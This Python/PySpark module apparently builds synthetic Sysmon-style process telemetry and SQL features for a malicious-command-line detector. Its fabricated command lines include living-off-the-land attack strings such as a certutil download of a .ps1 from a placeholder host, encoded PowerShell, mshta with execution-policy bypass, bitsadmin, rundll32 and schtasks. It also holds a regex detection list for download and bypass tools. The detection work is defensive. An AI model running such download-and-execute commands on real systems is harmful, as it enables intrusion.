"""Process-event view over the ``events`` table, and the shared SQL fragments of the twins."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from cmdprism.functions.features import CATEGORICAL_FEATURES, FEATURES, FLAG_FEATURES
from cmdprism.functions.text import WHITESPACE
from cmdprism.sources.tables import spread_small


def table(spark: SparkSession, sf_dir: str, name: str, columns: list[str] | None = None) -> DataFrame:
    """A supplied table, or some of its columns; text tables are spread over all cores."""
    df = spark.read.parquet(f"{sf_dir}/{name}.parquet")
    df = df if columns is None else df.select(*columns)
    return spread_small(df) if name in ("events", "documents", "conversations", "pages") else df


def telemetry(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One process event per row of ``events``; every sixth has no command line."""
    e = table(spark, sf_dir, "events")
    kind = F.col("event_id") % 6
    text = F.col("event_id").cast("string")
    user = F.col("user_id").cast("string")

    def by_kind(*values):
        out = F.when(kind == 0, values[0])
        for i, value in enumerate(values[1:], start=1):
            out = out.when(kind == i, value)
        return out

    # Each flag that no other shape sets is set for one event type.
    tools = (
        F.when(F.col("event_type") == "click", "& Curl -O x.zip")
        .when(F.col("event_type") == "error", "& bitsadmin /transfer")
        .when(F.col("event_type") == "purchase", "; WMIC process | rundll32 x.dll")
        .when(F.col("event_type") == "signup", "&& mshta y.hta -ep ByPass")
        .otherwise("; schtasks /create ; iwr -useb")
    )
    images = ["powershell.exe", "cmd.exe", "certutil.exe", "reg.exe", "svchost.exe", "explorer.exe"]
    command = by_kind(
        F.concat(F.lit("powershell.exe -enc "), F.md5(text), F.md5(F.concat(text, F.lit("x")))),
        F.concat(F.lit("cmd.exe /c whoami | findstr "), user),
        F.concat(F.lit("certutil -urlcache -f http://h"), user, F.lit("/a.ps1 a.ps1")),
        F.concat(F.lit("reg.exe  add HKLM /v "), F.col("event_type")),
        F.concat(F.lit("SVCHOST.EXE -k netsvcs -p "), user, F.lit(" "), tools),
        F.lit(None).cast("string"),
    )
    suspicious = kind.isin(0, 2)
    noisy = F.col("user_id") % 10 == 0
    return e.select(
        F.col("event_id").alias("row_id"),
        "user_id",
        F.date_format("ts", "yyyy-MM-dd HH:mm:ss").alias("EventTime"),
        F.concat(F.lit("HOST-"), (F.col("user_id") % 50).cast("string")).alias("Hostname"),
        F.lit("Sysmon").alias("Channel"),
        F.when(F.col("event_type") != "signup", F.concat(F.lit("CORP\\u"), user)).alias("User"),
        F.when(F.col("value") > 50, "High").otherwise("Medium").alias("IntegrityLevel"),
        F.concat(F.lit("C:\\Windows\\System32\\"), by_kind(*[F.lit(i) for i in images])).alias("SourceImage"),
        command.alias("CommandLine"),
        F.when(F.col("event_type") != "view", F.lit("C:\\Windows\\explorer.exe")).alias("ParentImage"),
        text.alias("ProcessId"),
        F.when(F.col("event_type") == "purchase", "discovery")
        .when(F.col("event_type") == "click", " ")
        .alias("_attack_technique"),
        F.col("props").alias("prompt"),
        F.when(F.col("event_type") == "error", F.lit(None).cast("string"))
        .when(suspicious, "MALICIOUS")
        .when(kind == 1, "unsure")
        .otherwise("benign")
        .alias("verdict_label"),
        F.when(F.col("event_type") == "view", F.lit(None).cast("string"))
        .when(F.col("event_type") == "signup", "")
        .otherwise(F.concat(F.lit('Saw "'), F.col("event_type"), F.lit('" by user '), user))
        .alias("verdict_reason"),
        F.when(suspicious, "high").when(kind == 1, "low").alias("verdict_confidence"),
        (F.col("value") / 500e0).alias("score"),
        (suspicious != noisy).cast("int").alias("_label"),
    )


TELEMETRY = """
SELECT event_id AS row_id, user_id,
  strftime(ts, '%Y-%m-%d %H:%M:%S') AS "EventTime",
  concat('HOST-', user_id % 50) AS "Hostname",
  'Sysmon' AS "Channel",
  CASE WHEN event_type <> 'signup' THEN concat('CORP', chr(92), 'u', user_id) END AS "User",
  CASE WHEN value > 50 THEN 'High' ELSE 'Medium' END AS "IntegrityLevel",
  concat('C:', chr(92), 'Windows', chr(92), 'System32', chr(92),
    CASE event_id % 6 WHEN 0 THEN 'powershell.exe' WHEN 1 THEN 'cmd.exe' WHEN 2 THEN 'certutil.exe'
      WHEN 3 THEN 'reg.exe' WHEN 4 THEN 'svchost.exe' ELSE 'explorer.exe' END) AS "SourceImage",
  CASE event_id % 6
    WHEN 0 THEN concat('powershell.exe -enc ', md5(CAST(event_id AS VARCHAR)), md5(concat(event_id, 'x')))
    WHEN 1 THEN concat('cmd.exe /c whoami | findstr ', user_id)
    WHEN 2 THEN concat('certutil -urlcache -f http://h', user_id, '/a.ps1 a.ps1')
    WHEN 3 THEN concat('reg.exe  add HKLM /v ', event_type)
    WHEN 4 THEN concat('SVCHOST.EXE -k netsvcs -p ', user_id, ' ', CASE event_type WHEN 'click' THEN '& Curl -O x.zip'
      WHEN 'error' THEN '& bitsadmin /transfer' WHEN 'purchase' THEN '; WMIC process | rundll32 x.dll'
      WHEN 'signup' THEN '&& mshta y.hta -ep ByPass' ELSE '; schtasks /create ; iwr -useb' END) END AS "CommandLine",
  CASE WHEN event_type <> 'view' THEN concat('C:', chr(92), 'Windows', chr(92), 'explorer.exe') END AS "ParentImage",
  CAST(event_id AS VARCHAR) AS "ProcessId",
  CASE event_type WHEN 'purchase' THEN 'discovery' WHEN 'click' THEN ' ' END AS "_attack_technique",
  props AS prompt,
  CASE WHEN event_type = 'error' THEN NULL WHEN event_id % 6 IN (0, 2) THEN 'MALICIOUS'
    WHEN event_id % 6 = 1 THEN 'unsure' ELSE 'benign' END AS verdict_label,
  CASE event_type WHEN 'view' THEN NULL WHEN 'signup' THEN ''
    ELSE concat('Saw "', event_type, '" by user ', user_id) END AS verdict_reason,
  CASE WHEN event_id % 6 IN (0, 2) THEN 'high' WHEN event_id % 6 = 1 THEN 'low' END AS verdict_confidence,
  value / 500e0 AS score,
  CASE WHEN (event_id % 6 IN (0, 2)) <> (user_id % 10 = 0) THEN 1 ELSE 0 END AS "_label"
FROM events
"""

# The patterns that define the flags, as case-insensitive searches.
FLAG_PATTERNS = {
    "has_powershell": "(?i)powershell",
    "has_encodedcommand": "(?i)-enc(odedcommand)?",
    "has_base64": "[A-Za-z0-9+/=]{40,}",
    "has_download": "(?i)download|http|https|ftp",
    "has_iwr": "(?i)invoke-webrequest|iwr",
    "has_curl": "(?i)curl",
    "has_certutil": "(?i)certutil",
    "has_bitsadmin": "(?i)bitsadmin",
    "has_wmic": "(?i)wmic",
    "has_rundll32": "(?i)rundll32",
    "has_reg_add": rf"(?i)reg(\.exe)?[{WHITESPACE}]+add",
    "has_schtasks": "(?i)schtasks",
    "has_mshta": "(?i)mshta",
    "has_cmd": r"(?i)cmd\.exe|cmd /c",
    "has_bypass": "(?i)bypass",
}


def normalized_sql(c: str) -> str:
    flat = f"lower(trim(regexp_replace(coalesce({c}, ''), '[{WHITESPACE}]+', ' ', 'g')))"
    bare = (
        f"CASE WHEN {flat} = '\"' THEN '' WHEN {flat} LIKE '\"%\"' "
        f"THEN substr({flat}, 2, length({flat}) - 2) ELSE {flat} END"
    )
    masked = f"regexp_replace({bare}, '[A-Za-z0-9+/=]{{16,}}', '<B64>', 'g')"
    number = r"'(^|[^\p{L}\p{N}_])\p{Nd}+([^\p{L}\p{N}_]|$)', '\1<NUM>\2', 'g'"
    return f"trim(regexp_replace(regexp_replace({masked}, {number}), {number}))"


def group_key_sql(image: str, command: str) -> str:
    base = rf"lower(regexp_extract(regexp_replace(coalesce({image}, ''), '(/+\.?)+$', ''), '[^/]*$'))"
    return f"concat({base}, '::', {normalized_sql(command)})"


def feature_sql(source: str, command: str, image: str, keep: str) -> str:
    """SELECT that computes all features from the table or subquery ``source``."""
    flags = ",\n  ".join(
        f"CAST(regexp_matches(c, '{pattern}') AS DOUBLE) AS {name}" for name, pattern in FLAG_PATTERNS.items()
    )
    words = f"list_filter(string_split_regex(c, '[{WHITESPACE}]+'), lambda x: x <> '')"
    return rf"""
SELECT {keep},
  CAST(length(c) AS BIGINT) AS cmd_length,
  CAST(len({words}) AS BIGINT) AS cmd_token_count,
  CAST(length(c) - length(regexp_replace(c, '[|&;]', '', 'g')) AS BIGINT) AS num_special_chars,
  CASE WHEN regexp_matches(c, '\p{{L}}') THEN CAST(length(regexp_replace(c, '[^\p{{Lu}}]', '', 'g')) AS DOUBLE)
    / length(regexp_replace(c, '[^\p{{L}}]', '', 'g')) ELSE 0e0 END AS cmd_upper_ratio,
  CAST(length(regexp_replace(c, '[^\p{{Nd}}]', '', 'g')) AS BIGINT) AS cmd_digit_count,
  CAST(contains(c, '|') OR contains(c, '&&') AS DOUBLE) AS has_pipe,
  {flags},
  CAST(len(list_filter({words}, lambda x: regexp_matches(trim(trim(lower(x), '"'), ''''),
    '\.(cab|zip|ps1|bat|vbs)$'))) > 0 AS DOUBLE) AS has_suspicious_ext,
  lower(list_extract(string_split(s, chr(92)), -1)) AS source_image_base,
  coalesce(lower(list_extract({words}, 1)), '') AS cmd_exe_base,
  CAST(length(s) - length(replace(s, chr(92), '')) AS BIGINT) AS image_path_depth
FROM (SELECT *, coalesce({command}, '') AS c, coalesce({image}, '') AS s FROM {source})
"""


TELEMETRY_FEATURES = feature_sql("telemetry", '"CommandLine"', '"SourceImage"', "*")


def with_telemetry(body: str, *extra: tuple[str, str]) -> str:
    """Prefix ``body`` with the telemetry view and further named subqueries."""
    parts = [("telemetry", TELEMETRY), *extra]
    return "WITH " + ",\n".join(f"{name} AS ({text})" for name, text in parts) + "\n" + body


def with_features(body: str, *extra: tuple[str, str]) -> str:
    return with_telemetry(body, ("features", TELEMETRY_FEATURES), *extra)


FEATURE_LIST_SQL = ", ".join("round(cmd_upper_ratio, 6) AS cmd_upper_ratio" if f == "cmd_upper_ratio" else f for f in FEATURES)

__all__ = ["CATEGORICAL_FEATURES", "FEATURES", "FLAG_FEATURES"]
